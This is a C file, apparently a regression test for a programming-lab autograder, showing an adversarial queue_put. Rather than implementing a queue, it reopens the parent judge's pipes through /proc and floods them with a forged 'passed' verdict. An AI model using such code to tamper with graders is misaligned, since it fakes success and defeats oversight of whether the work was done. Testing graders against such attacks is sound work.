/*
 * Attack: a verdict through the judge's own descriptor
 * Lab: threads
 * File: threads/queue.c
 * Tests: keeps_the_order thousands_of_items
 *
 * The test's process has closed the pipe for the verdict, but may try to open it
 * anew in the /proc of its parent, and to fill it until the judge's own verdict
 * is lost. It never had points: it is here so that it stays so.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int queue_put(struct queue *queue, void *item, int ms)
{
    static const char passed[12] = "passed\0\0\0";
    char path[100];
    struct stat status;
    (void)queue, (void)item, (void)ms;
    for (int fd = 3; fd < 100; fd++) {
        (void)snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)getppid(),
                       fd);
        if (stat(path, &status) != 0 || !S_ISFIFO(status.st_mode))
            continue;
        int pipe = open(path, O_WRONLY);
        size_t done = 0;
        while (done < 300 * 1024) {
            char rest[4096];
            for (size_t i = 0; i < sizeof rest; i++)
                rest[i] = done == 0 && i < 10 ? passed[i] : 'x';
            ssize_t n = write(pipe, rest, sizeof rest);
            if (n <= 0)
                break;
            done += (size_t)n;
        }
    }
    _exit(0);
}
